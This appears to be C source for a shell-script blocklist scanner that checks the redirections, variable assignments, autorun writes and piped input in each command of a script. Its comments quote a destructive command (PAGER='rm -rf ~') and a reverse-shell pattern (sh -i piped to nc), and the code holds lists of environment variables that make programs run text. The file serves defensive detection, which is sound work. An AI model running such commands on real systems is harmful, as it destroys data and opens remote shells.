/*
 * One command of a script with what stands around its words: redirections, assignments,
 * and where its standard input comes from. Declared in blocklist_stage.h.
 */
#include "blocklist/stage.h"

#include <string.h>

#include "blocklist/walk.h"

/* Steps of the budget. */
#define WORK_REDIRECT 60u

/* ---- redirections and variables ---- */

/* : > FILE empties it. */
static bool writes_nothing(const struct shell_command *c)
{
	const struct shell_word *w = c->words;

	if (c->word_count == 0)
		return true;
	if (c->word_count == 1)
		return word_is(w, ":") || word_is(w, "true") || word_is(w, "echo");
	return c->word_count == 2 &&
	       (word_is(w, "cat") || word_is(w, "echo") || word_is(w, "printf")) &&
	       (word_is(w + 1, "/dev/null") || word_is(w + 1, "-n") || !w[1].text.len);
}

static bool walk_redirects(struct blocklist_walk *w, const struct shell_command *c)
{
	shell_budget_take(&w->budget, WORK_REDIRECT * c->redirect_count);
	for (size_t i = 0; i < c->redirect_count; i++) {
		const struct shell_redirect *r = &c->redirects[i];
		const char *effect = r->op == SHELL_APPEND ? "append"
				     : r->op == SHELL_TO || r->op == SHELL_BOTH ? "write" : NULL;

		if (effect && r->op == SHELL_TO && writes_nothing(c) &&
		    blocklist_judge_effect(&w->rules, "wipe", &r->target, 0, false, &w->finding))
			return true;
		if (effect && blocklist_judge_effect(&w->rules, effect, &r->target, 0, false,
						     &w->finding)) {
			w->finding.start = c->start;
			w->finding.end = c->end;
			return true;
		}
	}
	return false;
}

/* PAGER='rm -rf ~' man x: variables whose text a program runs. */
static bool walk_assigns(struct blocklist_walk *w, const struct shell_assign *list, size_t count,
			 const struct blocklist_stage *at)
{
	static const char run[] =
		" PROMPT_COMMAND PAGER GIT_PAGER MANPAGER EDITOR VISUAL GIT_EDITOR "
		"GIT_SSH_COMMAND GIT_SEQUENCE_EDITOR GIT_EXTERNAL_DIFF LESSOPEN LESSEDIT LESSCLOSE "
		"BROWSER RSYNC_RSH SUDO_EDITOR GIT_PROXY_COMMAND SHELLOPTS_COMMAND ";
	struct blocklist_stage inner = *at;

	inner.lenient = true;
	for (size_t i = 0; i < count; i++) {
		struct shell_wrap file = { .kind = WRAP_FILE, .words = &list[i].value, .count = 1 };
		struct shell_word text = list[i].value;
		size_t skip = strspn(text.text.s, "|-");

		if (list[i].value.content && blocklist_listed(" BASH_ENV ENV ", list[i].name,
							      strlen(list[i].name)) &&
		    walk_file(w, &file, false, &inner))
			return true;
		if (!blocklist_listed(run, list[i].name, strlen(list[i].name)))
			continue;
		if (skip)
			text = shell_wrap_slice(&text, skip, text.text.len, &w->arena);
		if (walk_nested(w, &text, NULL, 0, &inner))
			return true;
	}
	return false;
}

/* Text that is written where it will be run, or that comes from afar and is put there. */
static bool walk_autorun(struct blocklist_walk *w, const struct shell_command *c,
			 const struct blocklist_stage *at)
{
	struct blocklist_stage inner = *at;
	struct shell_word text;
	size_t tee = 0;

	inner.lenient = true;
	inner.input = NULL;
	for (size_t i = 0; i < c->redirect_count; i++) {
		const struct shell_redirect *r = &c->redirects[i];

		if ((r->op != SHELL_TO && r->op != SHELL_APPEND) || !walk_runs_itself(&r->target))
			continue;
		if (blocklist_output(c, &w->arena, &text))
			return walk_own_start(w, &r->target, &text, &inner);
		if (walk_flow(w, blocklist_flow_output(at->flows, at->index) & FLOW_REMOTE,
			      c->words, c->word_count))
			return true;
	}
	if (!c->input && !(at->input_flow & FLOW_REMOTE))
		return false;
	while (tee < c->word_count && tee < 4 && !word_is(&c->words[tee], "tee"))
		tee++;
	for (size_t i = tee + 1; tee < 4 && i < c->word_count; i++)
		if (walk_runs_itself(&c->words[i]))
			return c->input ? walk_own_start(w, &c->words[i], c->input, &inner)
					: walk_flow(w, at->input_flow & FLOW_REMOTE, c->words,
						    c->word_count);
	return false;
}

/* ---- standard input ---- */

/* Does a redirection give it another standard input? */
static bool has_input(const struct shell_command *c)
{
	for (size_t i = 0; i < c->redirect_count; i++)
		if (c->redirects[i].fd <= 0 &&
		    (c->redirects[i].op == SHELL_FROM || c->redirects[i].op == SHELL_HERE ||
		     c->redirects[i].op == SHELL_STRING))
			return true;
	return false;
}

/* sh < /dev/stdin */
static bool reads_outer_input(const struct shell_command *c)
{
	static const char names[] = " /dev/stdin /dev/fd/0 /proc/self/fd/0 ";

	for (size_t i = 0; i < c->redirect_count; i++) {
		const struct shell_word *file = &c->redirects[i].target;

		if (c->redirects[i].op == SHELL_FROM &&
		    blocklist_listed(names, file->text.s, file->text.len))
			return true;
	}
	return false;
}

/* echo x > >(sh), tee >(sh): what goes into the process. All of a command's get the same. */
static const struct shell_word *parent_output(struct blocklist_walk *w,
					      struct blocklist_flows *flows, uint32_t index)
{
	const struct shell_command *parent = &flows->script->commands[index];
	struct shell_word *out;

	if (parent->word_count && word_is(&parent->words[0], "tee"))
		return parent->input;
	if (flows->fed_by == index)
		return flows->fed;
	out = shell_alloc(&w->arena, sizeof(*out));
	flows->fed = blocklist_output(parent, &w->arena, out) ? out : NULL;
	flows->fed_by = index;
	return flows->fed;
}

/* sh -i | nc HOST PORT: whoever is at the other end sees what the shell answers. */
static bool walk_answers(struct blocklist_walk *w, const struct shell_script *s,
			 const struct shell_command *c)
{
	const struct shell_command *from;
	const struct blocklist_name *shell, *sender;

	if (!c->word_count || c->piped_from >= s->command_count)
		return false;
	from = &s->commands[c->piped_from];
	sender = blocklist_lookup(c->words[0].text.s, c->words[0].text.len);
	if (!from->word_count || !sender || !(sender->flow & FLOW_KIND_FETCH))
		return false;
	shell = blocklist_lookup(from->words[0].text.s, from->words[0].text.len);
	if (!shell || !shell->wrapper || shell->wrapper->kind != WRAPPER_SHELL)
		return false;
	for (size_t i = 1; i < from->word_count; i++) {
		if (!word_is(&from->words[i], "-i") && !word_is(&from->words[i], "-s"))
			return false;
		if (walk_spent(w, WALK_WORD))
			return walk_too_complex(w, from->start);
	}
	return walk_found(w, "pipe.remote", from->start, c->end);
}

/* ---- the command ---- */

bool walk_command(struct blocklist_walk *w, const struct shell_script *s,
		  struct blocklist_flows *flows, uint32_t index)
{
	const struct shell_command *c = &s->commands[index];
	struct blocklist_stage at = {
		.script = s, .flows = flows, .index = index, .input = c->input
	};

	if (!at.input && w->input &&
	    (reads_outer_input(c) || (w->input->text.len > WALK_INPUT_MAX && !has_input(c))))
		at.input = w->input;
	if (!at.input && (c->context & SHELL_IN_PROCESS) && c->parent < s->command_count)
		at.input = parent_output(w, flows, c->parent);
	if (!at.input && c->redirect_count)
		at.input = walk_descriptor(s, index);
	at.input_flow = blocklist_flow_input(flows, index);
	if (at.input) /* what the filter made of it is known */
		at.input_flow &= ~(unsigned)FLOW_FILTERED;
	if (!at.input_flow && c->piped_from == SHELL_NONE && !has_input(c) &&
	    !(c->context & SHELL_IN_SUBSTITUTION))
		at.input_flow = w->input_flow;
	if (walk_answers(w, s, c) || walk_redirects(w, c) || walk_autorun(w, c, &at) ||
	    walk_assigns(w, c->assigns, c->assign_count, &at))
		return true;
	if (c->word_count && !(c->context & SHELL_TEST) &&
	    walk_words(w, c->words, c->word_count, &at))
		return true;
	if (c->redirect_count || c->word_count > 1)
		blocklist_file_note(&w->files, flows, index, &w->arena);
	return false;
}
